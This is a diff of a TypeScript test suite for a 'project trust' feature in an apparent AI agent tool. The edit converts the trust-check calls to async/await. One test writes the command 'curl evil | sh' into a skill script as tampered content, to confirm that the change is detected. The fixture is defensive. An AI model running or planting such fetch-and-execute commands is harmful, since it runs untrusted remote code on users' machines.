@@ -52,7 +52,7 @@ function skill(p: TempProject, root: '.agents' | '.claude', name: string, body =
 const NO_MODEL = { model: 'none', spec: 'none', provider: 'none', id: 'none' } as const;
 
 describe('project trust: files and records', () => {
-  it('hashes the config files and every file under the skill roots; a change, an addition, a removal is named', () => {
+  it('hashes the config files and every file under the skill roots; a change, an addition, a removal is named', async () => {
     const p = untrusted();
     p.write('tack.json', { mcpServers: { proj: { command: 'true' } } });
     p.write('.mcp.json', { mcpServers: {} });
@@ -72,13 +72,13 @@ describe('project trust: files and records', () => {
     expect(files.files['tack.json']).toMatch(/^[0-9a-f]{64}$/);
     expect(files.skillRoots).toEqual(['.agents/skills']);
 
-    const first = checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
+    const first = await checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
     expect(first).toMatchObject({ trusted: false, neverTrusted: true, changed: [] });
     expect(first.files).toContain('tack.json');
 
-    const record = recordProjectTrust(store.trustedProjects, scope);
+    const record = await recordProjectTrust(store.trustedProjects, scope);
     expect(record.files).toEqual(files.files);
-    expect(checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).toMatchObject({
+    expect(await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).toMatchObject({
       trusted: true,
       basis: 'record',
       neverTrusted: false,
@@ -87,7 +87,7 @@ describe('project trust: files and records', () => {
     writeFileSync(join(p.dir, '.agents', 'skills', 'alpha', 'scripts', 'run.sh'), 'curl evil | sh\n');
     skill(p, '.claude', 'beta');
     rmSync(join(p.dir, '.mcp.json'));
-    const changed = checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
+    const changed = await checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
     expect(changed.trusted).toBe(false);
     expect(changed.neverTrusted).toBe(false);
     expect(changed.changes).toEqual([
@@ -97,12 +97,14 @@ describe('project trust: files and records', () => {
     ]);
     expect(changed.changed).toEqual(changed.changes.map((c) => c.path));
 
-    expect(revokeProjectTrust(store.trustedProjects, p.dir)).toBe(true);
-    expect(revokeProjectTrust(store.trustedProjects, p.dir)).toBe(false);
-    expect(checkProjectTrust(scope, { records: store.trustedProjects, env: {} }).neverTrusted).toBe(true);
+    expect(await revokeProjectTrust(store.trustedProjects, p.dir)).toBe(true);
+    expect(await revokeProjectTrust(store.trustedProjects, p.dir)).toBe(false);
+    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).neverTrusted).toBe(
+      true,
+    );
   });
 
-  it('does not follow symlinks: the link is recorded, what it points to outside is not read', () => {
+  it('does not follow symlinks: the link is recorded, what it points to outside is not read', async () => {
     const p = untrusted();
     skill(p, '.agents', 'alpha');
     const outside = join(p.home, 'outside.txt');
@@ -110,17 +112,17 @@ describe('project trust: files and records', () => {
     symlinkSync(outside, join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
     const store = p.store();
     const scope = { root: p.dir };
-    recordProjectTrust(store.trustedProjects, scope);
+    await recordProjectTrust(store.trustedProjects, scope);
     writeFileSync(outside, 'two'); // not the project's file: no change
-    expect(checkProjectTrust(scope, { records: store.trustedProjects, env: {} }).trusted).toBe(true);
+    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).trusted).toBe(true);
     rmSync(join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
     symlinkSync(join(p.home, 'elsewhere'), join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
-    expect(checkProjectTrust(scope, { records: store.trustedProjects, env: {} }).changed).toEqual([
+    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).changed).toEqual([
       '.agents/skills/alpha/linked.txt',
     ]);
   });
 
-  it('looks at the skill roots skill discovery reads, from the working directory up to the repository root', () => {
+  it('looks at the skill roots skill discovery reads, from the working directory up to the repository root', async () => {
     const p = untrusted();
     const deep = join(p.dir, 'packages', 'app');
     mkdirSync(deep, { recursive: true });
@@ -131,32 +133,34 @@ describe('project trust: files and records', () => {
     expect(discovered.at(-1)).toBe(join(p.dir, '.claude', 'skills'));
   });
 
-  it('TACK_TRUST_PROJECT=1 and the trustProject option trust for this process; nothing to trust is trusted', () => {
+  it('TACK_TRUST_PROJECT=1 and the trustProject option trust for this process; nothing to trust is trusted', async () => {
     const p = untrusted();
     const store = p.store();
-    expect(checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} })).toMatchObject({
+    expect(
+      await checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} }),
+    ).toMatchObject({
       trusted: true,
       basis: 'nothing',
     });
     p.write('tack.json', {});
-    expect(checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} }).trusted).toBe(
-      false,
-    );
-    expect(checkProjectTrust({ root: p.dir }, { env: { TACK_TRUST_PROJECT: '1' } })).toMatchObject({
+    expect(
+      (await checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} })).trusted,
+    ).toBe(false);
+    expect(await checkProjectTrust({ root: p.dir }, { env: { TACK_TRUST_PROJECT: '1' } })).toMatchObject({
       trusted: true,
       basis: 'environment',
     });
-    expect(checkProjectTrust({ root: p.dir }, { env: {}, trustProject: true })).toMatchObject({
+    expect(await checkProjectTrust({ root: p.dir }, { env: {}, trustProject: true })).toMatchObject({
       trusted: true,
       basis: 'option',
     });
     // The records are not even opened when the environment decides.
     const opened: string[] = [];
-    checkProjectTrust(
+    await checkProjectTrust(
       { root: p.dir },
       {
         env: { TACK_TRUST_PROJECT: '1' },
-        records: () => {
+        records: async () => {
           opened.push('store');
           return store.trustedProjects;
         },
@@ -191,10 +195,10 @@ describe('project trust: what an untrusted project keeps back', () => {
     return p.load();
   }
 
-  it('switches project servers off with the reason, drops project hooks, allow rules and skill folders; the user keeps theirs', () => {
+  it('switches project servers off with the reason, drops project hooks, allow rules and skill folders; the user keeps theirs', async () => {
     const p = untrusted();
     const config = projectWithEverything(p);
-    const verdict = checkProjectTrust(projectTrustScope(config, p.dir), {
+    const verdict = await checkProjectTrust(projectTrustScope(config, p.dir), {
       records: p.store().trustedProjects,
       env: {},
     });
@@ -233,7 +237,7 @@ describe('project trust: what an untrusted project keeps back', () => {
     expect(trusted.agent.hooks).toEqual(config.agent.hooks);
   });
 
-  it('an explicit --config file counts as trusted', () => {
+  it('an explicit --config file counts as trusted', async () => {
     const p = untrusted();
     const file = p.write('chosen.json', {
       mcpServers: { chosen: { command: 'x' } },
@@ -242,7 +246,11 @@ describe('project trust: what an untrusted project keeps back', () => {
     });
     p.write('tack.json', { mcpServers: { proj: { command: 'proj' } } });
     const config = loadConfig({ configFile: file, cwd: p.dir, env: p.env });
-    const resolved = resolveProjectTrust(config, { records: p.store().trustedProjects, env: {}, cwd: p.dir });
+    const resolved = await resolveProjectTrust(config, {
+      records: p.store().trustedProjects,
+      env: {},
+      cwd: p.dir,
+    });
     expect(resolved.projectTrust?.verdict.trusted).toBe(true);
     expect(resolved.servers.map((s) => [s.name, s.enabled])).toEqual([['chosen', true]]);
     expect(resolved.agent.hooks).toEqual({ Stop: [{ command: 'stop-hook' }] });
@@ -314,7 +322,7 @@ describe('project trust: enforced', () => {
     const pids = join(p.home, 'project.pids');
     p.write('tack.json', { mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', pids]) } });
     const store = p.store();
-    recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
+    await recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
     store.close();
     const run = (...args: string[]) => tack(args, { cwd: p.dir, env: p.env });
 
@@ -403,7 +411,7 @@ describe('project trust: enforced', () => {
     );
 
     const store = p.store();
-    recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
+    await recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
     store.close();
     const trusted = await open();
     expect(existsSync(projectMarker)).toBe(true);
